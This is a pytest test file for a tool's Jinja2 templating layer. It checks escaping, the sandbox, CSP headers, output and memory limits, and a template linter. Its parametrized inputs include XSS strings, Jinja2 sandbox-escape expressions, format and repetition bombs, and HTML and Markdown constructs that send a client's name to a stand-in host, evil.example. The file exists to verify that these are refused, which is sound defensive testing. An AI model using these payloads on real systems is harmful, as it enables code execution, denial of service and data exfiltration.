"""Templates: escaping by format, StrictUndefined, the sandbox, CSP, Jinja2 version."""
import pytest

from peerkit import templating
from peerkit.errors import DataError


@pytest.fixture
def tpl(ws):
    folder = ws.path("templates", "t")
    folder.mkdir(parents=True, exist_ok=True)

    def write(name, text):
        (folder / name).write_text(text)
        return f"t/{name}"

    return write


def test_html_is_escaped_even_for_html_j2_names_and_gets_csp(ws, tpl):
    name = tpl("page.html.j2", "<html><head><title>x</title></head><body>{{ text }}</body></html>")
    out = templating.render(ws, name, {"text": '<script>alert(1)</script>"><img src=x onerror=y>'}, fmt="html")
    assert "<script>" not in out and "&lt;script&gt;" in out and "<img" not in out
    assert out.index("Content-Security-Policy") < out.index("<title>")
    assert "default-src 'none'" in out


def test_markdown_escapes_user_text(ws, tpl):
    name = tpl("n.md.j2", "# Note\n{{ text }}\n")
    out = templating.render(ws, name, {"text": "[x](javascript:alert(1)) <b>hi</b> =HYPERLINK(1)"}, fmt="md")
    import re

    assert re.search(r"(?<!\\)\]\(javascript", out) is None and "<b>" not in out
    assert "\\[x\\](javascript" in out and "\\<b\\>" in out


def test_a_typo_is_an_error_naming_the_field(ws, tpl):
    name = tpl("typo.md.j2", "{{ client.nmae }}")
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {"client": {"name": "Sam Example"}}, fmt="md")
    assert "'nmae'" in err.value.message and "Sam" not in err.value.message


@pytest.mark.parametrize("source", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ x|attr('__class__') }}",
    "{{ 'a' * 10**9 }}",
    "{{ 10 ** 100000 }}",
    "{% set l = [] %}{{ l.append(1) }}",
])
def test_the_sandbox_refuses_escapes_and_bombs(ws, tpl, source):
    name = tpl("evil.txt.j2", source)
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {"x": "y"}, fmt="txt")
    assert "template" in err.value.message


def test_a_runaway_template_is_stopped(ws, tpl, monkeypatch):
    monkeypatch.setattr(templating, "RENDER_SECONDS", 0.5)
    name = tpl("loop.txt.j2", "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}")
    with pytest.raises(DataError, match="took longer than"):
        templating.render(ws, name, {}, fmt="txt")


def test_jinja2_is_recent_enough():
    import jinja2

    major, minor, patch = (int(x) for x in jinja2.__version__.split(".")[:3])
    assert (major, minor, patch) >= (3, 1, 6)


def test_workspace_template_overrides_default(ws, tpl, monkeypatch):
    default_dir = ws.root.parent / "defaults"
    (default_dir / "t").mkdir(parents=True)
    (default_dir / "t" / "x.txt.j2").write_text("default")
    monkeypatch.setattr(templating, "default_dir", lambda: default_dir)
    assert templating.render(ws, "t/x.txt.j2", {}, fmt="txt") == "default"
    tpl("x.txt.j2", "mine")
    assert templating.render(ws, "t/x.txt.j2", {}, fmt="txt") == "mine"


# --- rendered HTML is rebuilt: CSP first, nothing that redirects, rebases or reaches out -------

NOTE = "N-2026-11-09-C001-1"


def note_template(ws_path, text):
    folder = ws_path / "templates" / "notes"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "note.html.j2").write_text(text)


def test_a_comment_head_and_meta_refresh_cannot_send_a_name_out(run, ws_path):
    """The reproduction of issue 13: this sent the client's name to another site."""
    note_template(ws_path, '<!-- <head> -->\n<meta http-equiv="refresh" '
                           'content="0;url=https://evil.example/?{{ client.name|urlencode }}">\n'
                           '<p>{{ note.id }}</p>\n')
    out = ws_path.parent / "note.html"
    result = run("note", "render", NOTE, "--format", "html", "--out", out)
    assert result.exit_code == 3, result.output
    assert "notes/note.html.j2" in result.output and "meta http-equiv=refresh" in result.output
    assert "evil" not in result.output and "Example" not in result.output.replace("peerkit", "")
    assert not out.exists()


def test_the_csp_comes_first_however_the_template_starts(ws, tpl):
    name = tpl("p.html.j2", "<!-- <head> -->\n<html><head><title>t</title></head><body>{{ x }}</body></html>")
    out = templating.render(ws, name, {"x": "A & B's"}, fmt="html")
    assert out.lstrip().startswith('<html><head><meta http-equiv="Content-Security-Policy"')
    assert "<!--" not in out and out.index("Content-Security-Policy") < out.index("<title>")
    assert "A &amp; B&#39;s" in out
    doctype = tpl("d.html.j2", "<!DOCTYPE html>\n<html lang=en>\n<head>\n<meta charset=utf-8><title>t</title>")
    out = templating.render(ws, doctype, {}, fmt="html")
    assert out.startswith('<!DOCTYPE html>\n<html lang="en">\n<head><meta http-equiv="Content-Security-Policy"')
    assert "default-src 'none'" in out and "form-action 'none'" in out and "base-uri 'none'" in out


def test_a_comment_a_browser_ends_early_is_dropped_not_passed_on(ws, tpl):
    # html.parser ends this comment at the last '-->', browsers at '--!>': the meta would be live
    name = tpl("c.html.j2", '<!-- --!><meta http-equiv="refresh" content="0;url=https://evil.example/"><!-- -->'
                            "<p>kept</p>")
    out = templating.render(ws, name, {}, fmt="html")
    assert "refresh" not in out and "evil" not in out and "<p>kept</p>" in out


@pytest.mark.parametrize("html, construct", [
    ('<base href="https://evil.example/">', "<base>"),
    ('<meta http-equiv=" Refresh " content="5">', "meta http-equiv=refresh"),
    ('<meta http-equiv="Link" content="<https://evil.example/a.css>; rel=stylesheet">', "<meta http-equiv>"),
    ('<img src="https://evil.example/{{ x }}.png">', "<img src>"),
    ('<img src="//evil.example/a.png">', "<img src>"),
    ('<img src="/\\evil.example/a.png">', "<img src>"),
    ('<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">', "<img srcset>"),
    ('<a href="HTTPS://evil.example/">x</a>', "<a href>"),
    ('<a href="https://user@evil.example:443/">x</a>', "<a href>"),
    ('<a href="mailto:someone@evil.example?body={{ x }}">x</a>', "<a href>"),
    ('<link rel="dns-prefetch" href="//evil.example">', "<link href>"),
    ('<form action="https://evil.example/"></form>', "<form action>"),
    ('<button formaction="http://evil.example/">b</button>', "<button formaction>"),
    ('<video poster="https://evil.example/p.png"></video>', "<video poster>"),
    ('<object data="https://evil.example/o"></object>', "<object data>"),
    ('<a href="x" ping="https://evil.example/p">x</a>', "<a ping>"),
    ('<a href="javascript:alert(1)">x</a>', "javascript: address"),
    ('<iframe src="data:text/html,hello"></iframe>', "data: address"),
    ("<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=https://evil.example/'>\"></iframe>", "srcdoc"),
    ('<p style="background:url(https://evil.example/a.png)">x</p>', "style attribute of <p>"),
    ('<p style="background:u\\72l(//evil.example/a.png)">x</p>', "style attribute of <p>"),
    ("<style>@import 'https://evil.example/a.css';</style>", "in <style>"),
    ("<style>p { background: URL( https://evil.example/a ) }</style>", "in <style>"),
    ('<svg><style><meta http-equiv="refresh" content="0;url=https://evil.example/"></style></svg>',
     "'<' inside <style>"),
])
def test_redirects_base_and_remote_addresses_are_refused_naming_the_construct(ws, tpl, html, construct):
    name = tpl("bad.html.j2", f"<html><head><title>t</title></head><body>{html}</body></html>")
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {"x": "Sam Example"}, fmt="html")
    assert err.value.exit_code == 3
    assert "bad.html.j2" in err.value.message and construct in err.value.message
    assert "Sam" not in err.value.message and "evil" not in err.value.message


def test_local_addresses_and_data_images_render(ws, tpl):
    name = tpl("ok.html.j2", '<a href="#plan">p</a><a href="other.html">o</a><a href="tel:+19195550100">t</a>'
                             '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">'
                             '<p style="color:#000; font-family:\'Times New Roman\'">x</p>')
    out = templating.render(ws, name, {}, fmt="html")
    assert '<a href="#plan">' in out and 'src="data:image/png;base64,iVBORw0KGgo="' in out


def _allow(ws_path, line):
    with open(ws_path / "peerkit.toml", "a") as f:
        f.write(f"\n[templates]\n{line}\n")


def test_allowed_hosts_let_a_listed_host_through_and_no_other(ws_path, tpl):
    from peerkit.workspace import Workspace

    _allow(ws_path, 'allowed_hosts = ["Agency.Example"]')
    ws = Workspace(ws_path)
    name = tpl("logo.html.j2", '<img src="https://agency.example/logo.png"><a href="https://agency.example/">a</a>')
    out = templating.render(ws, name, {}, fmt="html")
    assert 'src="https://agency.example/logo.png"' in out
    assert "img-src data: https://agency.example;" in out
    for other in ("https://evil.example/x.png", "https://agency.example.evil.example/x.png",
                  "https://agency.example@evil.example/x.png"):
        bad = tpl("other.html.j2", f'<img src="{other}">')
        with pytest.raises(DataError, match="allowed_hosts"):
            templating.render(ws, bad, {}, fmt="html")


@pytest.mark.parametrize("line", ['allowed_hosts = ["https://agency.example/"]', 'allowed_hosts = "agency.example"',
                                  'allowed_hosts = ["*.example"]', "allowed_hosts = [3]"])
def test_allowed_hosts_are_validated(ws_path, tpl, line):
    from peerkit.workspace import Workspace

    _allow(ws_path, line)
    name = tpl("p.html.j2", "<p>x</p>")
    with pytest.raises(DataError) as err:
        templating.render(Workspace(ws_path), name, {}, fmt="html")
    assert "peerkit.toml" in err.value.message and "templates.allowed_hosts" in err.value.message


# --- formatting, padding, repetition and ~ are capped like other output -----------------------

@pytest.mark.parametrize("source", [
    '{{ "{:>2000000000}".format("x") }}',
    '{{ "{:>{}}".format("x", 2000000000) }}',
    '{{ "{:.2000000000f}".format(1.5) }}',
    '{{ ("{0}" * 999999).format("x" * 999999) }}',
    '{{ "{x:>2000000000}".format_map({"x": "y"}) }}',
    '{{ "%2000000000s" % "x" }}',
    '{{ "%*s" % (2000000000, "x") }}',
    '{{ "%.2000000000f" % 1.5 }}',
    '{{ ("%s" * 999999) % (("x" * 999999,) * 999999) }}',
    '{{ "%2000000000s"|format("x") }}',
    '{{ "x".center(2000000000) }}',
    '{{ "x".ljust(2000000000) }}',
    '{{ "x".rjust(2000000000) }}',
    '{{ "1".zfill(2000000000) }}',
    '{{ ("x" * 999999)|attr("center")(2000000000) }}',
    '{{ "x"|center(2000000000) }}',
    '{{ ("\t" * 999999).expandtabs(999999) }}',
    '{{ ("a" * 999999).replace("a", "a" * 999999) }}',
    '{{ ("a" * 999999)|replace("a", "a" * 999999) }}',
    '{{ ("x" * 999999).join(["y"] * 999999) }}',
    '{{ (["x" * 999999] * 999999)|join }}',
    '{{ ("x\n" * 499999)|indent(999999) }}',
    '{{ [1]|batch(2000000000, "x")|list }}',
    '{% set a = "x" * 999999 %}{% for i in range(40) %}{% set a = a ~ a %}{% endfor %}{{ a|length }}',
    '{% set ns = namespace(a="x" * 999999) %}{% for i in range(40) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}',
    '{% set ns = namespace(a="x" * 999999) %}{% for i in range(40) %}{% set ns.a = ns.a + ns.a %}{% endfor %}',
    '{% for i in range(100000) %}{{ "x" * 999999 }}{% endfor %}',
])
@pytest.mark.parametrize("fmt", ["txt", "html"])
def test_format_padding_and_repetition_bombs_stop_quickly(ws, tpl, source, fmt):
    import time

    name = tpl(f"bomb.{fmt}.j2", source)
    started = time.monotonic()
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {}, fmt=fmt)
    assert "template output too large" in err.value.message and err.value.exit_code == 3
    assert time.monotonic() - started < 5


def test_the_bomb_exits_3_from_the_cli(run, ws_path):
    note_template(ws_path, '{{ "{:>2000000000}".format(client.name) }}')
    result = run("note", "render", NOTE, "--format", "html")
    assert result.exit_code == 3 and "template output too large" in result.output
    assert "notes/note.html.j2" in result.output


def test_ordinary_formatting_still_works(ws, tpl):
    name = tpl("fmt.txt.j2", '{{ "{:>6}|{:.2f}".format("ab", 1.5) }} {{ "%-4s|%05.1f" % ("x", 2.25) }} '
                             '{{ "%s and %s"|format("a", "b") }} {{ "ab".center(6, "*") }} {{ "7".zfill(3) }} '
                             '{{ ["a", "b"]|join(", ") }} {{ "a" ~ "b" ~ 1 }} {{ "a" + "b" }} {{ 10 % 4 }} '
                             '{{ "x"|indent(2, first=True) }} {{ "aXa".replace("X", "-") }} {{ 2 * 3 }}')
    out = templating.render(ws, name, {}, fmt="txt")
    assert out == "    ab|1.50 x   |002.2 a and b **ab** 007 a, b ab1 ab 2   x a-a 6"


def test_a_type_error_in_a_template_is_exit_3_not_a_crash(ws, tpl):
    name = tpl("te.txt.j2", '{{ "x".center("wide") }}')
    with pytest.raises(DataError, match="TypeError"):
        templating.render(ws, name, {}, fmt="txt")


# --- templates check names each construct with its file and line -------------------------------

def test_templates_check_reports_each_leaking_construct_with_its_line(run, ws_path):
    note_template(ws_path, "\n".join([
        "<!-- <head> -->",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ client.name|urlencode }}">',
        '<base href="/">',
        '<img src="https://evil.example/{{ note.id }}.png">',
        '<img src="a.png" srcset="a.png 1x, //evil.example/b.png 2x">',
        "<p style=\"background: url('https://evil.example/x')\">{{ note.id }}</p>",
        '<style>@import "https://evil.example/a.css";</style>',
        '<form action="https://evil.example/"><button formaction="https://evil.example/b">x</button></form>',
        '<a href="{{ note.id }}.html">a local link is fine</a>',
        '<img src="https://agency.example/logo.png">',
    ]))
    with open(ws_path / "peerkit.toml", "a") as f:
        f.write('\n[templates]\nallowed_hosts = ["agency.example"]\n')
    result = run("templates", "check")
    assert result.exit_code == 1
    where = "templates/notes/note.html.j2"
    for line, construct in [(1, "HTML comment containing <head>"), (2, "<meta http-equiv=refresh>"),
                            (3, "<base>"), (4, "remote address in <img src>"),
                            (5, "remote address in <img srcset>"),
                            (6, "remote address in a style attribute of <p>"),
                            (7, "remote address in <style>"), (8, "remote address in <form action>"),
                            (8, "remote address in <button formaction>")]:
        assert any(out.startswith(f"warning: {where}:{line}: ") and construct in out
                   for out in result.output.splitlines()), construct
    assert f"{where}:9:" not in result.output and f"{where}:10:" not in result.output
    assert "No risky constructs" not in result.output


# --- the render runs under an address-space limit ---------------------------------------------

MEMORY_BOMB = '{{ (["x" * 999999] * 999999)|string|length }}'  # past every cap: str() of a list


@pytest.mark.skipif(not __import__("peerkit.render_limits").render_limits.can_fork(), reason="needs fork")
def test_a_template_that_needs_too_much_memory_is_stopped(ws, tpl, monkeypatch):
    import time

    monkeypatch.setenv("PEERKIT_TEMPLATE_MEMORY_MB", "64")
    name = tpl("mem.txt.j2", MEMORY_BOMB)
    started = time.monotonic()
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {}, fmt="txt")
    assert "template used too much memory" in err.value.message and err.value.exit_code == 3
    assert "t/mem.txt.j2" in err.value.message
    assert time.monotonic() - started < 10


@pytest.mark.skipif(not __import__("peerkit.render_limits").render_limits.can_fork(), reason="needs fork")
def test_the_memory_limit_from_the_cli_is_exit_3(run, ws_path):
    note_template(ws_path, MEMORY_BOMB)
    result = run("note", "render", NOTE, "--format", "html", env={"PEERKIT_TEMPLATE_MEMORY_MB": "64"})
    assert result.exit_code == 3 and "template used too much memory" in result.output


def test_the_memory_limit_setting_is_checked(ws, tpl, monkeypatch):
    from peerkit.errors import UsageError

    name = tpl("ok.txt.j2", "{{ x }}")
    monkeypatch.setenv("PEERKIT_TEMPLATE_MEMORY_MB", "a lot")
    with pytest.raises(UsageError, match="PEERKIT_TEMPLATE_MEMORY_MB"):
        templating.render(ws, name, {"x": 1}, fmt="txt")


def test_a_render_in_the_child_equals_one_in_process(ws, monkeypatch):
    from peerkit_notes.render import render_note

    note = ws.note(NOTE)
    limited = {fmt: render_note(ws, note, fmt=fmt) for fmt in ("md", "html", "txt")}
    monkeypatch.setenv("PEERKIT_TEMPLATE_MEMORY_MB", "off")
    assert limited == {fmt: render_note(ws, note, fmt=fmt) for fmt in ("md", "html", "txt")}
    assert "Content-Security-Policy" in limited["html"]


def test_errors_in_the_child_keep_their_message_and_exit_code(ws, tpl):
    name = tpl("typo.html.j2", "{{ client.nmae }}")
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {"client": {"name": "Sam Example"}}, fmt="html")
    assert "'nmae'" in err.value.message and err.value.exit_code == 3


def test_the_default_templates_pass_templates_check():
    for path in templating.default_dir().rglob("*.j2"):
        assert templating.lint_template(path.read_text(encoding="utf-8")) == [], path


def test_a_child_that_outlives_the_time_limit_is_killed(monkeypatch):
    import time

    from peerkit import render_limits

    if not render_limits.can_fork():
        pytest.skip("needs fork")
    monkeypatch.setattr(render_limits, "GRACE_SECONDS", 0.5)
    started = time.monotonic()
    with pytest.raises(DataError, match="took longer than"):
        render_limits.run_limited(lambda: time.sleep(30) or "late", where="template t", seconds=0.5)
    assert time.monotonic() - started < 5


def test_a_bad_allowed_hosts_is_a_finding_of_check_and_doctor(run, ws_path):
    note_template(ws_path, '<img src="https://agency.example/logo.png">')
    _allow(ws_path, 'allowed_hosts = ["https://agency.example"]')
    for command in ("templates", "check"), ("doctor",):
        result = run(*command)
        assert result.exit_code == 1, result.output
        assert "templates.allowed_hosts" in result.output
        assert "remote address in <img src>" in result.output


def test_markup_html_parser_chokes_on_never_crashes(ws, tpl):
    from peerkit.htmlsafe import lint_html, rebuild

    for source in ("<![foo[ x ]]>", "<![ x", "<p>a<![CDATA[<meta http-equiv=refresh content=0>]]>b</p>"):
        out, problems = rebuild(source)
        assert "refresh" not in out.replace("Content-Security-Policy", "") or problems
        lint_html(source)
    name = tpl("odd.html.j2", "<p>{{ x }}</p><![if x]>")
    assert "<p>1</p>" in templating.render(ws, name, {"x": 1}, fmt="html")


def test_rebuilt_html_is_stable_and_never_crashes():
    """Whatever a template produces, peerkit's rewrite parses back to exactly itself: a browser
    (or html.parser) reading it finds the tokens peerkit checked, no comment left to disagree on."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from peerkit.htmlsafe import _Rebuilder, _walk, rebuild

    def serialize(source):
        walker = _Rebuilder(frozenset(), None)
        return _walk(walker, source), [text for _, text in walker.problems if "comment" not in text]

    pieces = st.sampled_from(["<", ">", "!", "-", "[", "]", "/", '"', "'", "=", "a", " ", "&", "#", ";",
                              "CDATA", "style", "script", "DOCTYPE", "\n", "meta", "http-equiv",
                              "refresh", "head", "html", "--", "<!--", "-->", "--!>", "href", "img"])

    @settings(max_examples=400, deadline=None)
    @given(st.lists(pieces, max_size=30).map("".join))
    def check(source):
        rebuild(source)  # never raises
        once, problems = serialize(source)
        twice, again = serialize(once)
        assert "<!--" not in once and twice == once and again == problems

    check()


# --- Markdown output follows the same rules for what the template put there -------------------

@pytest.mark.parametrize("source, construct", [
    ("![logo](https://evil.example/{{ x|urlencode }}.png)", "Markdown image"),
    ("[help](//evil.example/?{{ x|urlencode }})", "Markdown link"),
    ("[r]: https://evil.example/{{ x|urlencode }}", "Markdown reference"),
    ("<https://evil.example/{{ x|urlencode }}>", "Markdown autolink"),
    ('<img src="https://evil.example/{{ x|urlencode }}">', "<img src>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "meta http-equiv=refresh"),
])
def test_markdown_that_loads_or_links_elsewhere_is_refused(ws, tpl, source, construct):
    name = tpl("bad.md.j2", f"# Note\n\n{source}\n")
    with pytest.raises(DataError) as err:
        templating.render(ws, name, {"x": "Sam Example"}, fmt="md")
    assert construct in err.value.message and "bad.md.j2" in err.value.message
    assert "Sam" not in err.value.message


def test_markdown_values_that_look_like_links_are_escaped_not_refused(ws, tpl):
    name = tpl("ok.md.j2", "# Note\n{{ x }}\n[Plan](#plan) ![seal](data:image/png;base64,AA)\n")
    text = '<img src="https://e.example/x"> [a](https://e.example) ![b](https://e.example) <https://e.example>'
    out = templating.render(ws, name, {"x": text}, fmt="md")
    assert "\\<img" in out and "\\[a\\]" in out


def test_templates_check_reports_markdown_links_in_md_templates(run, ws_path):
    folder = ws_path / "templates" / "notes"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "note.md.j2").write_text("# {{ note.id }}\n\n![x](https://evil.example/{{ note.id }})\n"
                                       "[a]({{ note.id }}.md)\n")
    result = run("templates", "check")
    assert result.exit_code == 1
    assert "templates/notes/note.md.j2:3: loads or links a remote address in a Markdown image" in result.output
    assert "note.md.j2:4" not in result.output


def test_when_fork_fails_the_render_still_happens_in_process(ws, tpl, monkeypatch):
    import os

    def no_fork():
        raise BlockingIOError(11, "Resource temporarily unavailable")

    monkeypatch.setattr(os, "fork", no_fork)
    name = tpl("ok.txt.j2", "{{ x }}")
    assert templating.render(ws, name, {"x": "fine"}, fmt="txt") == "fine"
